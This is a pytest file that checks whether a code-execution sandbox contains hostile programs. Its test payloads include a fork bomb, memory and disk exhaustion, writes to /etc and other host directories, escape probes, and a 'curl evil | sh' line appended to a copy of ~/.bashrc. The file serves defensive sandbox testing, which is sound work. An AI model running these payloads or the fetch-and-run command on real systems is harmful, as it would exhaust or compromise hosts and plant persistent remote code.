"""The sandbox contains hostile programs and reports what happened; the host carries on.

CI runs this file both as root (own uid, cgroups) and as an unprivileged user (the
user-namespace path: same uid, no cgroups) - see ``.ci/run``; every test asserts in both.
"""

import dataclasses
import errno
import json
import os
import secrets
import sys
from pathlib import Path

import pytest

from babeltower.sandbox.run import Limits, new_sandbox_dir, run_sandboxed
from procs import run as run_process
from sandbox_fixtures import (ESCAPE_EXPECTED, escape_probe, loopback_listener, unix_listener,
                              world_writable_dirs)

PY = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable
FAST = Limits(timeout=2.0, memory_bytes=512 << 20, max_processes=32, max_output_bytes=4096)
ROOT = os.geteuid() == 0


def py(src: str, limits: Limits = FAST, **kw):
    return run_sandboxed([PY, "-c", src], limits=limits, **kw)


def host_still_works():
    out = run_process([PY, "-c", "print(6*7)"], timeout=20)
    assert out.stdout.strip() == "42"


def test_pass_and_fail_and_exit_code():
    r = py("print('hello')")
    assert r.status == "pass" and r.exit_code == 0 and r.stdout.strip() == "hello"
    r = py("import sys; sys.exit(3)")
    assert r.status == "fail" and r.exit_code == 3


def test_infinite_loop_times_out_and_is_killed():
    r = py("while True: pass")
    assert r.status == "timeout"
    assert r.signal == 9
    assert 1.9 <= r.wall_time < 5.0
    host_still_works()


def _uid_of(pid: str):
    """uid of a live (non-zombie) process, else None."""
    try:
        fields = dict(line.split(":", 1) for line in
                      Path(f"/proc/{pid}/status").read_text().splitlines() if ":" in line)
    except OSError:
        return None
    if fields.get("State", "").strip().startswith("Z"):
        return None
    return int(fields["Uid"].split()[0])


def _running_with(marker: str, uid: int) -> list[int]:
    """Live (non-zombie) processes of ``uid`` whose command line holds ``marker``."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline and _uid_of(pid) == uid:
            found.append(int(pid))
    return found


def _assert_nothing_left(marker: str, uid: int) -> None:
    """Right after the run returned, none of its processes is alive (kill them if so,
    so that a failing test does not leave a fork bomb behind)."""
    left = _running_with(marker, uid)
    for _ in range(200 if left else 0):
        for pid in _running_with(marker, uid):
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    assert left == [], f"{len(left)} processes of the run still alive after it returned"


def test_fork_bomb_is_contained():
    # children that escape the process group via setsid are still in the pids cgroup
    # (root) or the run's PID namespace (not root); a unique marker names its processes
    marker = f"bt-fork-bomb-{secrets.token_hex(8)}"
    src = (f"# {marker}\n"
           "import os\n"
           "while True:\n"
           "    try:\n"
           "        if os.fork() == 0: os.setsid()\n"
           "    except OSError: pass\n")
    r = py(src)
    _assert_nothing_left(marker, r.isolation["uid"])
    assert r.status == "timeout"
    assert r.isolation["processes"] in ("pids cgroup", "RLIMIT_NPROC (own uid)",
                                        "RLIMIT_NPROC (shared with the caller's uid)")
    assert r.isolation["process_tree"] in ("pids cgroup", "own PID namespace")
    host_still_works()


def test_growing_memory_reports_memory_and_a_huge_request_is_refused():
    r = py("b = []\nwhile True: b.append(bytearray(1 << 20))")
    assert r.status == "memory", (r.status, r.stderr[-300:])
    # a single 10 GB request: refused by RLIMIT_DATA/AS (not root) or more than the
    # cgroup allows (root) - either way the host keeps its memory
    r = py("x = bytearray(10 * 1024**3)\nprint(len(x))")
    assert r.status in ("memory", "fail") and "10737418240" not in r.stdout, r
    host_still_works()


def test_memory_limit_holds_without_rlimit_as():
    """What the JVM, node and Go get (no RLIMIT_AS): the memory cgroup (root) or
    RLIMIT_DATA (not root) still stops a program that touches its pages."""
    lim = Limits(timeout=10, memory_bytes=256 << 20, address_space=False, max_processes=32)
    r = py("b = []\nwhile True: b.append(bytearray(16 << 20))", limits=lim)
    assert r.status == "memory", (r.status, r.signal, r.stderr[-300:])
    assert r.isolation["memory"] == ("memory cgroup" if ROOT else "RLIMIT_DATA")


@pytest.mark.parametrize("text", ["MemoryError", "std::bad_alloc",
                                  "No space left on device", "File too large"])
def test_the_programs_own_text_does_not_set_the_status(text):
    r = py(f"import sys\nprint({text!r}, file=sys.stderr)\nsys.exit(1)")
    assert r.status == "fail" and text in r.stderr
    r = py(f"import sys\nprint({text!r}, file=sys.stderr)")
    assert r.status == "pass"


def test_write_outside_its_directory_is_refused(tmp_path):
    # the test's own directories are writable by the caller (the same uid, not root)
    targets = ["/etc/babeltower-pwned", "/usr/local/babeltower-pwned", str(tmp_path / "out"),
               str(Path.cwd() / "babeltower-pwned"), str(Path(__file__).parent / "pwned")]
    if Path.home().is_dir():
        targets.append(str(Path.home() / "babeltower-pwned"))
    for target in targets:
        r = py(f"open({target!r}, 'w').write('pwned')")
        # refused by permissions, the read-only host, or not even visible (private /tmp)
        assert r.status == "fail" and any(
            e in r.stderr for e in ("Permission denied", "Read-only file system",
                                    "No such file or directory")), (target, r.stderr)
        assert not Path(target).exists()
    # its own directory is writable, and /tmp is private (nothing reaches the host /tmp)
    r = py("open('own.txt','w').write('ok'); open('/tmp/bt-sandbox-leak','w').write('x');"
           "print(open('own.txt').read())")
    assert r.status == "pass" and r.stdout.strip() == "ok"
    assert r.isolation["filesystem"] == ("own uid; private /tmp" if ROOT
                                         else "private /tmp, same uid")
    assert r.isolation["host_filesystem"] == "read-only"
    assert not Path("/tmp/bt-sandbox-leak").exists()


def test_the_callers_own_home_is_read_only_inside():
    """Issue 21: a fork-server program appended to ~/.bashrc. A home directory the caller
    can write (not under /tmp, which the private /tmp hides: .ci/run gives its unprivileged
    user one under /run) is read-only inside, through both runners (as root the sandbox's
    own uid cannot enter root's home at all)."""
    home = Path.home()
    assert home.is_dir() and os.access(home, os.W_OK), home  # else the test proves nothing
    assert not str(home.resolve()).startswith(("/tmp/", "/var/tmp/", "/dev/shm/"))
    rc = home / f".bashrc-bt-{secrets.token_hex(4)}"
    rc.write_text("# mine\n")
    try:
        src = (f"import os\nprint(os.path.exists({str(rc)!r}))\n"
               f"open({str(rc)!r}, 'a').write('curl evil | sh\\n')\n")
        for fork_server in (False, True):
            from babeltower.sandbox.execute import run_program

            r = run_program("python", src, timeout=10, python_fork_server=fork_server)
            assert r.status == "fail", r
            if ROOT:  # root's home (0700) is not even visible to the sandbox's own uid
                assert "Permission denied" in r.stderr or "Read-only" in r.stderr, r.stderr
            else:     # the same uid: visible, and the mount is read-only
                assert "Read-only file system" in r.stderr, r.stderr
                assert r.stdout.strip() == "True"
        assert rc.read_text() == "# mine\n"
    finally:
        rc.unlink()


def test_every_world_writable_host_dir_is_read_only_inside():
    """Found by walking the host (not listed by hand): /tmp, /var/tmp, /run/lock, ..."""
    dirs = world_writable_dirs()
    assert "/tmp" in dirs  # the walk works (every Linux host has a world-writable /tmp)
    name = f"bt-pwned-{secrets.token_hex(4)}"
    src = ("import json, sys\nout = {}\n"
           f"for d in {list(dirs)!r}:\n"
           f"    try:\n        open(d + '/{name}', 'w').write('x'); out[d] = 'written'\n"
           "    except OSError as e:\n        out[d] = e.strerror\n"
           "print(json.dumps(out))\n")
    r = py(src, limits=Limits(timeout=10, memory_bytes=512 << 20))
    assert r.status == "pass", r.stderr[-300:]
    result = json.loads(r.stdout)
    assert set(result) == set(dirs)  # every one was tried
    # nothing appears on the host, whatever happened inside
    leaked = [d for d in dirs if os.path.lexists(f"{d}/{name}")]
    assert leaked == [], leaked
    # and inside, only the sandbox's own private tmpfs took a write (it vanishes with it)
    private = ("/tmp", "/var/tmp", "/dev/shm")
    written = [d for d, how in result.items() if how == "written"]
    assert set(written) <= set(private), result


def test_only_the_sandboxs_own_mounts_are_writable_inside():
    """A structural check that covers world-writable *files* too: every mount point the
    program can see is read-only, except the sandbox's own tmpfs and overlay."""
    src = ("import json\nseen = {}\n"
           "for line in open('/proc/self/mountinfo'):\n"
           "    f = line.split()\n"
           "    seen[f[4]] = (f[5].split(',')[0], f[f.index('-') + 1])\n"  # last one wins
           "print(json.dumps([(p, t) for p, (mode, t) in seen.items() if mode == 'rw']))\n")
    r = py(src)
    assert r.status == "pass", r.stderr
    writable = json.loads(r.stdout)
    own = [p for p, t in writable if t == "overlay"]
    assert len(own) == 1 and Path(own[0]).name.startswith("bt-sbx-"), writable
    others = {p: t for p, t in writable if t != "overlay"}
    # the one private tmpfs (its parts bound at /var/tmp and /dev/shm), and devpts (ttys:
    # a read-only mount does not stop writes to a device anyway)
    assert {p for p, t in others.items() if t == "tmpfs"} <= {"/tmp", "/var/tmp", "/dev/shm"}
    assert set(others.values()) <= {"tmpfs", "devpts"}, others


def test_disk_fill_is_capped_and_reported_as_disk():
    wd = new_sandbox_dir()
    lim = Limits(timeout=20, memory_bytes=1 << 30, write_bytes=32 << 20)
    src = ("block = b'x' * (1 << 20)\n"
           "with open('fill', 'wb') as f:\n"
           "    while True:\n        f.write(block); f.flush()\n")
    r = run_sandboxed([PY, "-c", src], workdir=wd, limits=lim)
    assert r.status == "disk", (r.status, r.stderr[-300:])
    assert "No space left on device" in r.stderr
    assert r.isolation["writes"].startswith("capped")
    # the writes went to the capped tmpfs and vanished: nothing on the host's disk
    assert not (wd / "fill").exists()
    # /tmp and the own directory share the one cap (20 + 20 MB > 32 MB)
    src2 = ("open('/tmp/a', 'wb').write(b'x' * (20 << 20))\n"
            "open('b', 'wb').write(b'x' * (20 << 20))\n")
    r = run_sandboxed([PY, "-c", src2], limits=lim)
    assert r.status == "disk", (r.status, r.stderr[-300:])


def test_outbound_connection_to_a_loopback_listener_fails():
    with loopback_listener() as (port, accepted):
        src = ("import socket, time\n"
               "s = socket.socket(); s.settimeout(5); t = time.time()\n"
               "try:\n"
               f"    s.connect(('127.0.0.1', {port}))\n"
               "    print('CONNECTED')\n"
               "except OSError as e:\n"
               "    print(e.errno, round(time.time() - t, 3))\n")
        r = py(src)
        assert accepted() == []
    assert r.isolation["network"].startswith("none"), r.isolation
    code, secs = r.stdout.split()
    # the loopback of the sandbox's own network namespace is down: unreachable at once
    assert int(code) == errno.ENETUNREACH
    assert float(secs) < 0.5
    host_still_works()


def test_daemon_does_not_outlive_the_run():
    marker = f"bt-daemon-{secrets.token_hex(8)}"
    src = (f"# {marker}\n"
           "import os, time\n"
           "if os.fork() == 0:\n"
           "    os.setsid()\n"
           "    if os.fork() == 0:\n"
           "        print(os.getpid(), flush=True)\n"
           "        time.sleep(60)\n"
           "    os._exit(0)\n"
           "time.sleep(0.5)\n")
    # a generous timeout: it must end by itself (status pass) on a loaded machine too
    r = py(src, limits=dataclasses.replace(FAST, timeout=10.0))
    assert r.status == "pass", r.stderr
    (daemon,) = r.stdout.split()  # it was running when the program ended
    # gone when the run returned: killed with the cgroup (root) or the PID namespace
    _assert_nothing_left(marker, r.isolation["uid"])
    assert r.isolation["process_tree"] in ("pids cgroup", "own PID namespace")


def test_output_is_capped_and_environment_scrubbed():
    os.environ["BABELTOWER_SECRET_TEST"] = "s3cret"
    try:
        r = py("import os, sys\nprint(sorted(os.environ))\nsys.stdout.flush()\n"
               "print('x' * 1_000_000)")
    finally:
        del os.environ["BABELTOWER_SECRET_TEST"]
    assert r.status == "pass" and r.truncated
    assert len(r.stdout.encode()) <= 4096
    assert "BABELTOWER_SECRET_TEST" not in r.stdout
    r = py("import os; print(os.environ['HOME'] == os.getcwd() == os.environ['TMPDIR'])")
    assert r.stdout.strip() == "True"


def test_stdin_is_closed():
    r = py("import sys; print(repr(sys.stdin.read()))")
    assert r.status == "pass" and r.stdout.strip() == "''"


def test_threads_and_worker_processes_work():
    # not root the program runs inside its own PID namespace: it must still start threads
    # (a process may only start threads in its own namespace) and reap its workers
    src = ("import subprocess, threading\n"
           "t = threading.Thread(target=print, args=('thread',)); t.start(); t.join()\n"
           "print(subprocess.run(['echo', 'child'], capture_output=True, text=True).stdout)")
    r = py(src, limits=dataclasses.replace(FAST, timeout=10.0))
    assert r.status == "pass", r.stderr
    assert r.stdout.split() == ["thread", "child"]


def test_signal_death_is_a_crash():
    r = py("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)")
    assert r.status == "crash" and r.signal == 11


def test_missing_executable_is_missing_toolchain():
    r = run_sandboxed(["/nonexistent/babel-compiler", "x"], limits=FAST)
    assert r.status == "missing_toolchain"


# --- issue 21: what a contained process can no longer do ---------------------------------
def test_no_capabilities_no_new_privs_and_the_syscall_filter(tmp_path):
    """mount (the remount that made the host writable), umount, unshare, setns, ptrace,
    io_uring, TIOCSTI, unix sockets ...: each refused; no capability left, in any set.
    A 0666 unix listener in the test's /tmp and one in the program's own directory (the
    same uid when not root) receive nothing."""
    wd = new_sandbox_dir()
    inside = str(wd / "own.sock")
    hidden = str(tmp_path / "host.sock")   # under the host /tmp: hidden by the private /tmp
    with unix_listener(inside) as got_inside, unix_listener(hidden) as got_hidden:
        r = run_sandboxed([PY, "-c", escape_probe([inside, hidden])], workdir=wd,
                          limits=dataclasses.replace(FAST, timeout=10.0))
        assert got_inside() == [] and got_hidden() == []
    assert r.status == "pass", r.stderr[-500:]
    seen = json.loads(r.stdout)
    for name, want in ESCAPE_EXPECTED.items():
        assert seen[name] == want, (name, seen[name])
    assert seen[f"connect {inside}"] == "EPERM"     # no unix socket can be made at all
    assert seen[f"connect {hidden}"] == "EPERM"
    assert r.isolation["capabilities"] == "none"
    assert r.isolation["syscall_filter"] == "seccomp + no_new_privs"


def test_every_filter_rule_resolves_on_this_architecture():
    """libseccomp knows every system call the filter names (a rule for a call it does not
    know would be skipped), and the filter is built."""
    import ctypes

    from babeltower.sandbox import fences

    lib = ctypes.CDLL(ctypes.util.find_library("seccomp") or "libseccomp.so.2")
    lib.seccomp_syscall_resolve_name.argtypes = [ctypes.c_char_p]
    unknown = [name for name, *_ in fences.SECCOMP_RULES
               if lib.seccomp_syscall_resolve_name(name.encode()) < 0]
    assert unknown == []
    assert fences.seccomp_unavailable() == ""
    assert len(fences.build_seccomp_program()) % 8 == 0


def test_ipc_objects_do_not_outlive_the_run():
    """SysV shared memory (0666, a fixed key) and a POSIX message queue made by one run:
    the host never sees them, the next run cannot find them, nothing stays pinned."""
    key = 0x42420000 + secrets.randbelow(0xFFFF)
    make = (f"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f"shm = libc.shmget({key}, 64 << 20, 0o1666)\n"
            "addr = libc.shmat(shm, None, 0)\n"
            "mq = libc.mq_open(b'/bt-mq', os.O_CREAT | os.O_RDWR, 0o666, None)\n"
            "print(shm >= 0, mq >= 0)\n")
    r = py(make)
    assert r.status == "pass" and r.stdout.split() == ["True", "True"], r
    assert r.isolation["namespaces"].endswith("IPC, PID")
    host = Path("/proc/sysvipc/shm").read_text().split()
    assert str(key) not in host
    assert not Path("/dev/mqueue/bt-mq").exists()
    find = (f"import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f"print(libc.shmget({key}, 0, 0), ctypes.get_errno())\n")
    r = py(find)
    assert r.stdout.split() == ["-1", str(errno.ENOENT)], r


def test_proc_lists_only_the_programs_own_processes():
    r = py("import os\nprint(os.getpid(), sorted(int(p) for p in os.listdir('/proc') "
           "if p.isdigit()))")
    assert r.status == "pass", r.stderr
    pid, pids = r.stdout.split(" ", 1)
    assert pid == "2" and json.loads(pids) == [1, 2]   # its init and itself
    assert r.isolation["proc"] == "own (PID namespace)"


WITHOUT_USER_NAMESPACES = r'''
import errno, os, sys
from babeltower.sandbox import fences
# a host where namespaces cannot be made (a hardened kernel, a container's seccomp
# profile): unshare and clone with a namespace flag fail with EPERM in this process tree
rules = [("unshare", errno.EPERM, [], ""), ("clone3", errno.ENOSYS, [], "")]
rules += [("clone", errno.EPERM, [(0, f, f)], "") for f in (0x10000000, 0x40000000, 0x20000)]
assert fences.seccomp_installer(fences.build_seccomp_program(rules))()
os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
'''

RUN_ONE = r'''
import sys
from babeltower.errors import BabelError
from babeltower.sandbox.run import isolation_line, run_sandboxed
try:
    r = run_sandboxed([PYTHON, "-c", "open(MARK, 'w').write('ran')"],
                      unsafe=UNSAFE, limits=None)
except BabelError as e:
    print(e); sys.exit(2)
print(r.status, isolation_line(r.isolation))
'''


def test_without_user_namespaces_the_run_refuses_in_one_line():
    # in the host's /tmp: the sandbox uid (root) or the caller can write there when no
    # mount namespace hides it - which is what the unsafe run below does
    mark = Path(f"/tmp/bt-refusal-{secrets.token_hex(6)}")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}

    def attempt(unsafe: bool):
        code = (RUN_ONE.replace("MARK", repr(str(mark))).replace("UNSAFE", str(unsafe))
                .replace("PYTHON", repr(PY)))
        return run_process([sys.executable, "-c", WITHOUT_USER_NAMESPACES, "-c", code],
                           timeout=60, env=env)

    out = attempt(unsafe=False)
    assert out.returncode == 2, out
    lines = out.stdout.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("sandbox: cannot isolate programs here"), out
    assert "unshare(" in lines[0] and "EPERM" in lines[0] and "--unsafe-no-sandbox" in lines[0]
    assert not mark.exists()    # no program ran
    # asked for explicitly: it runs (the host /tmp is not private then), and says so
    out = attempt(unsafe=True)
    assert out.returncode == 0, out
    assert "UNSAFE" in out.stdout and "namespaces none" in out.stdout, out.stdout
    try:
        assert out.stdout.startswith("pass ") and mark.read_text() == "ran"
    finally:
        mark.unlink(missing_ok=True)


def test_a_compilers_writes_to_its_directory_are_capped_in_total():
    """A compiler's directory is writable (the binary must survive the compile step):
    many files, each under RLIMIT_FSIZE, are stopped by the watch on the directory's total
    (checked every 0.1 s: what it holds stays within the cap plus 0.1 s of writing)."""
    wd = new_sandbox_dir()
    lim = Limits(timeout=20, memory_bytes=512 << 20, write_bytes=32 << 20)
    src = ("import os, time\nfor i in range(1000):\n"
           "    open(f'part{i}', 'wb').write(b'x' * (2 << 20))\n    time.sleep(0.01)\n")
    r = run_sandboxed([PY, "-c", src], workdir=wd, limits=lim, writable_workdir=True)
    assert r.status == "disk", (r.status, r.stderr[-300:])
    held = sum(f.stat().st_size for f in wd.iterdir())
    assert 32 << 20 <= held < 96 << 20, held
    assert "in total" in r.isolation["writes"]
